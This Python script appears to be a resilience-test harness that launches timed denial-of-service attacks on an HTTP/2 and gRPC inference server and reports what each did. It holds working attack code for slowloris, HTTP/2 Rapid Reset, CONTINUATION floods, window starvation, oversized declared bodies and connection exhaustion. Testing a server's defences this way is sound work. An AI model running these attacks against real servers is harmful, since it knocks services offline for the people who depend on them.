"""Attacks that go on for some seconds, each in a process of its own: attacks.py NAME HOST:PORT SECONDS. Prints what it did as one JSON line."""
import json
import os
import resource
import select
import socket
import struct
import sys
import time

from hostile import CONTINUATION, DATA, GET_METRICS, GRPC_HEAD, HEADERS, PING, PREFACE, RST, SETTINGS, WINDOW, connect, frame, literal

GIGABYTE = 1 << 30


def closed(s):
    """Whether the server has ended it; what it said is dropped."""
    limit = s.gettimeout()
    s.settimeout(0)
    try:
        while s.recv(1 << 16):
            pass
        return True
    except BlockingIOError:
        return False
    except OSError:
        return True
    finally:
        s.settimeout(limit)


def open_many(address, count, first):
    """As many connections as the server takes, each with its first bytes sent."""
    host, port = address.rsplit(":", 1)
    out = []
    for _ in range(count):
        s = socket.create_connection((host, int(port)), timeout=10)
        try:
            s.sendall(first)
        except OSError:
            s.close()
            continue
        out.append(s)
    return out


def slow_loris(address, end):
    """2,000 headers of which a line comes now and then."""
    open_ = open_many(address, 2000, b"GET /v2/health/live HTTP/1.1\r\nHost: a\r\n")
    opened = len(open_)
    while time.monotonic() < end:
        pause = time.monotonic() + 0.5
        still = []
        for s in open_:
            try:
                if closed(s):
                    raise ConnectionError
                s.sendall(b"x: y\r\n")
                still.append(s)
            except OSError:
                s.close()
        open_ = still
        time.sleep(max(0, pause - time.monotonic()))
    return {"connections": opened, "ended": opened - len(open_)}


def flood(address, end, blocks, preface=b""):
    """Sends the same on connection after connection, each until it is closed."""
    connections = ended = sent = 0  # not ended: the server, which has said GOAWAY, still drops what comes
    while time.monotonic() < end:
        with connect(address) as s:
            connections += 1
            try:
                s.sendall(preface)
                for block in blocks:
                    s.sendall(block)
                    sent += len(block)
                    if closed(s):
                        raise ConnectionError
                    if time.monotonic() > end:
                        break
            except OSError:
                ended += 1
    return {"connections": connections, "ended": ended, "MB": sent >> 20}


def rapid_reset(address, end):
    cancel = struct.pack(">I", 8)
    blocks = [b"".join(frame(HEADERS, 4, i, GRPC_HEAD) + frame(RST, 0, i, cancel) for i in range(first, first + 200, 2)) for first in range(1, 60_000, 200)]
    return flood(address, end, blocks)


def continuation(address, end):
    return flood(address, end, [frame(CONTINUATION, 0, 1, literal("x", "y" * 100)) * 100] * 10_000, frame(HEADERS, 0, 1, GRPC_HEAD))


def empty_continuation(address, end):
    return flood(address, end, [frame(CONTINUATION, 0, 1) * 1000] * 10_000, frame(HEADERS, 0, 1, GRPC_HEAD))


def starvation(address, end):
    """20 connections with 100 answers each, whose windows are closed and then open byte by byte."""
    ask = b"".join(frame(HEADERS, 5, i, GET_METRICS) for i in range(1, 200, 2))
    drip = b"".join(frame(WINDOW, 0, i, struct.pack(">I", 1)) for i in range(1, 200, 2))
    open_ = open_many(address, 20, PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + ask)
    opened = len(open_)
    while time.monotonic() < end:
        for s in list(open_):
            try:
                if closed(s):
                    raise ConnectionError
                s.sendall(drip)
            except OSError:
                open_.remove(s)
                s.close()
        time.sleep(0.2)
    return {"connections": opened, "ended": opened - len(open_), "streams": opened * 100}


def declared(address, end):
    """A gigabyte that is only declared, again and again, at gRPC's prefix and as Content-Length."""
    calls = posts = refused = 0
    head = b"POST /v2/models/echo/infer HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n" % GIGABYTE
    while time.monotonic() < end:
        with connect(address, preface=False) as s:
            s.sendall(head)
            posts += 1
            refused += s.recv(100).startswith(b"HTTP/1.1 413")
        with connect(address) as s:
            for i in range(1, 100, 2):
                s.sendall(frame(HEADERS, 4, i, GRPC_HEAD) + frame(DATA, 0, i, b"\0" + struct.pack(">I", GIGABYTE) + b"x" * 1000))
                calls += 1
            answer = b""
            s.sendall(frame(PING, 0, 0, b"all read"))
            while b"all read" not in answer:
                piece = s.recv(1 << 16)
                if not piece:
                    break
                answer += piece
        time.sleep(0.01)
    return {"calls": calls, "posts": posts, "refused": refused}


def half_budget(address, end):
    """Bodies of 400 MB that are allowed and never come: one fits into the receive budget, the others do not."""
    head = b"POST /v2/models/echo/infer HTTP/1.1\r\nHost: a\r\nContent-Length: 400000000\r\n\r\n"
    held, refused = [], 0
    for _ in range(50):
        s = connect(address, preface=False)
        s.sendall(head)
        s.settimeout(0.2)
        try:
            refused += s.recv(100).startswith(b"HTTP/1.1 429")
            s.close()
        except TimeoutError:
            held.append(s)
    while time.monotonic() < end and not all(closed(s) for s in held):
        time.sleep(0.1)
    return {"held": len(held), "refused": refused, "ended": sum(closed(s) for s in held)}


def many_connections(address, end):
    """10,000 that say nothing but that they speak HTTP/2, and 100 more."""
    open_ = open_many(address, 10_000, PREFACE + frame(SETTINGS, 0, 0))
    opened = len(open_)
    extra = open_many(address, 100, PREFACE)
    time.sleep(max(0, end - time.monotonic()))
    poll = select.poll()
    by_fd = {s.fileno(): s for s in extra}
    for fd in by_fd:
        poll.register(fd, select.POLLIN)
    refused = 100 - len(extra) + sum(closed(by_fd[fd]) for fd, _ in poll.poll(0))
    return {"connections": opened, "ended": sum(closed(s) for s in open_), "refused": refused}


ATTACKS = {f.__name__: f for f in (slow_loris, rapid_reset, continuation, empty_continuation, starvation, declared, half_budget, many_connections)}

if __name__ == "__main__":
    os.nice(5)  # as if it came from another machine: it should cost the server's work, not its cores
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    begun = time.monotonic()
    did = ATTACKS[sys.argv[1]](sys.argv[2], begun + float(sys.argv[3]))
    print(json.dumps(did | {"seconds": round(time.monotonic() - begun, 1)}))
